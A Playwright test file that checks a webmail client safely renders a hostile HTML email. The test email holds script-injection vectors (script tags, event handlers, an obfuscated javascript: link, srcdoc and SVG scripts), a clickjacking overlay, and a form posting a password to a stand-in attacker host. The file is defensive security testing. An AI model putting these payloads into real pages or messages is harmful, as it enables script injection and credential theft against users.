import type { Frame, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { haveChromium } from '../support/browser';
import { type MailClientRig, PIXEL_PNG, startMailClientRig } from './mail-client-support';

const ACCOUNT = { email: 'hostile-html@example.com', password: 'browser-hostile-password', totpSecret: 'JBSWY3DPEHPK3PXPJBSWY3DPEHPK3PXP' };
const SUBJECT = 'Acceptances: hostile markup';

/** Everything a mail could try: each would leave a marker (`__pwned`) in the top page or in its own frame if it ran. */
const HOSTILE = `<!DOCTYPE html><html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example.test/refresh">
<base href="https://evil.example.test/">
<link rel="stylesheet" href="https://evil.example.test/style.css">
<style>.cover{position:fixed;inset:0;z-index:2147483647;background:rgba(255,0,0,.5)}</style>
<title>Hostile</title></head>
<body onload="top.__pwned='body-onload';document.body.dataset.ran='onload'">
<script>top.__pwned='script';document.body.dataset.ran='script';top.location='https://evil.example.test/navigated'</script>
<div class="cover" style="position:fixed;inset:0;z-index:2147483647">Click anywhere to continue</div>
<p id="text">Field for Saturday: Racing results attached.</p>
<img id="broken" src="nothing-here.png" onerror="top.__pwned='onerror';document.body.dataset.ran='onerror'">
<a id="js" href="jav&#x61;script:top.__pwned='js-link'">Open the acceptances</a>
<a id="ext" href="https://racing.example.test/results">Racing results</a>
<iframe id="nested" srcdoc="<script>top.__pwned='srcdoc'</script>"></iframe>
<form id="steal" action="https://evil.example.test/steal" method="post"><input name="password" value="x"><button id="submit" type="submit">Confirm</button></form>
<object data="https://evil.example.test/object.swf"></object>
<svg><script>top.__pwned='svg'</script><image href="https://evil.example.test/svg.png" /></svg>
<img id="remote" src="https://images.example.test/banner.png" alt="Sponsor banner">
<img id="inline" src="cid:logo@racing.example" alt="Club logo">
</body></html>`;

describe.skipIf(!haveChromium)('hostile HTML mail in Chromium', () => {
  let rig: MailClientRig;
  let messageId: string;

  beforeAll(async () => {
    rig = await startMailClientRig('mail-hostile', ACCOUNT);
    messageId = await rig.deliver({
      subject: SUBJECT,
      from: { name: 'Promoter', address: 'promoter@example.test' },
      html: HOSTILE,
      attachments: [
        { name: 'logo.png', contentType: 'image/png', contentBytes: PIXEL_PNG.toString('base64'), contentId: '<logo@racing.example>' },
      ],
    });
  }, 120_000);

  afterAll(async () => {
    await rig?.close();
  });

  /** The reading pane's body frame, once loaded. */
  async function bodyFrame(page: Page, remote: boolean): Promise<Frame> {
    await expect
      .poll(() =>
        page.frames().some((f) => f.url().includes(`/html${remote ? '?images=remote' : ''}`) && (remote || !f.url().includes('images='))),
      )
      .toBe(true);
    const frame = page
      .frames()
      .find((f) => f.url().includes('/html') && (remote ? f.url().includes('images=remote') : !f.url().includes('images=')))!;
    await frame.locator('#text').waitFor();
    return frame;
  }

  it('runs nothing of the mail, keeps the page usable, shows inline images, holds remote ones until asked', async () => {
    const context = await rig.browser.newContext({ viewport: { width: 1280, height: 900 } });
    const requests: string[] = [];
    context.on('request', (request) => requests.push(request.url()));
    // Nothing outside reaches the network: the remote image and the link's page are served here.
    await context.route('https://images.example.test/**', (route) =>
      route.fulfill({ status: 200, contentType: 'image/png', body: PIXEL_PNG }),
    );
    await context.route('https://racing.example.test/**', (route) =>
      route.fulfill({ status: 200, contentType: 'text/html', body: '<!DOCTYPE html><title>Results</title><p>Results</p>' }),
    );
    await context.route('https://evil.example.test/**', (route) => route.fulfill({ status: 200, contentType: 'text/plain', body: 'evil' }));
    const page = await context.newPage();
    const errors: string[] = [];
    page.on('pageerror', (err) => errors.push(err.message));
    await rig.signIn(page);

    await page.goto(`${rig.mail.url}/outlook`);
    const item = page.locator('[data-messages] li[role="option"]').filter({ hasText: SUBJECT });
    await item.click();
    const iframe = page.locator('iframe[data-mail-frame]');
    await iframe.waitFor();

    // The frame: sandboxed without scripts, forms or same origin; the document under its own policy.
    const sandbox = (await iframe.getAttribute('sandbox')) ?? '';
    expect(sandbox.split(/\s+/)).not.toEqual(expect.arrayContaining(['allow-scripts']));
    for (const flag of ['allow-scripts', 'allow-forms', 'allow-same-origin', 'allow-top-navigation']) expect(sandbox).not.toContain(flag);
    const answer = await context.request.get(`${rig.mail.url}/api/email/${encodeURIComponent(messageId)}/html`);
    expect(answer.status()).toBe(200);
    const csp = answer.headers()['content-security-policy'] ?? '';
    expect(csp).toMatch(/(^|; )sandbox( |;)/);
    expect(csp).toContain("default-src 'none'");
    expect(csp).not.toContain('allow-scripts');
    expect(csp).not.toContain('https:');
    expect(answer.headers()['cache-control']).toBe('no-store');

    const frame = await bodyFrame(page, false);
    // Let a refresh, a late handler or a navigation have their chance.
    await page.waitForTimeout(1500);

    // Nothing ran: no marker in the top page or the frame, the page where it was.
    expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();
    expect(page.url()).toBe(`${rig.mail.url}/outlook`);
    expect(await page.title()).toMatch(/^Mail/);
    expect(await frame.locator('body').getAttribute('data-ran')).toBeNull();
    // What would run or submit is gone from the document itself.
    expect(await frame.locator('script, iframe, object, embed, form, meta[http-equiv], base[href], link, svg').count()).toBe(0);
    expect(await frame.locator('[onerror], [onload], [srcdoc]').count()).toBe(0);
    expect(await frame.locator('#js').getAttribute('href')).toBeNull();

    // The page's own controls stay clickable: the mail's fixed full-screen cover is held in its frame.
    const reply = page.getByRole('button', { name: 'Reply', exact: true });
    const box = (await reply.boundingBox())!;
    expect(
      await page.evaluate(
        ([x, y]) => document.elementFromPoint(x!, y!)?.getAttribute('data-action'),
        [box.x + box.width / 2, box.y + box.height / 2],
      ),
    ).toBe('reply');
    await reply.click({ timeout: 3000 });
    await page.locator('[data-reply-form]').waitFor();
    await page.getByRole('button', { name: 'Discard' }).click();

    // Inside the frame the mail's fixed cover is laid out in place (the sanitiser unpins it), so its own links work.
    expect(await frame.locator('.cover').evaluate((el) => getComputedStyle(el).position)).toBe('static');

    // Clicking the javascript: link and the form's button does nothing either.
    await frame.locator('#js').click({ timeout: 3000, force: true });
    await frame.locator('#submit').click({ timeout: 3000, force: true });
    await page.waitForTimeout(500);
    expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();
    expect(page.url()).toBe(`${rig.mail.url}/outlook`);
    expect(requests.filter((url) => url.startsWith('https://evil.example.test'))).toEqual([]);

    // The inline image is the message's attachment; the remote one was never asked for.
    expect(
      await frame
        .locator('#inline')
        .evaluate((img: HTMLImageElement) => ({ src: img.src.slice(0, 22), loaded: img.complete && img.naturalWidth > 0 })),
    ).toEqual({ src: 'data:image/png;base64,', loaded: true });
    expect(await frame.locator('#remote').getAttribute('src')).toBeNull();
    expect(requests.filter((url) => url.startsWith('https://images.example.test'))).toEqual([]);

    // Links open in a new tab, without an opener or a referrer.
    const link = frame.locator('#ext');
    expect(await link.getAttribute('target')).toBe('_blank');
    expect((await link.getAttribute('rel'))?.split(/\s+/)).toEqual(expect.arrayContaining(['noopener', 'noreferrer']));
    const [popup] = await Promise.all([context.waitForEvent('page'), link.click()]);
    await popup.waitForLoadState();
    expect(popup.url()).toBe('https://racing.example.test/results');
    expect(await popup.evaluate(() => window.opener === null)).toBe(true);
    await popup.close();
    expect(page.url()).toBe(`${rig.mail.url}/outlook`);

    // "Show images": the same message again with remote images allowed, and now they load.
    await page.getByRole('button', { name: 'Show images' }).click();
    const shown = await bodyFrame(page, true);
    await expect.poll(() => requests.some((url) => url === 'https://images.example.test/banner.png'), { timeout: 5000 }).toBe(true);
    await expect.poll(() => shown.locator('#remote').evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth > 0)).toBe(true);
    expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();
    expect(requests.filter((url) => url.startsWith('https://evil.example.test'))).toEqual([]);

    // The plain text is one click away.
    await page.getByRole('button', { name: 'Plain text' }).click();
    const text = page.locator('[data-body-text]');
    await text.waitFor();
    expect(await text.innerText()).toContain('Field for Saturday');
    expect(await iframe.isVisible()).toBe(false);
    await page.getByRole('button', { name: 'Formatted' }).click();
    expect(await iframe.isVisible()).toBe(true);

    expect(errors).toEqual([]);
    await context.close();
  }, 120_000);
});
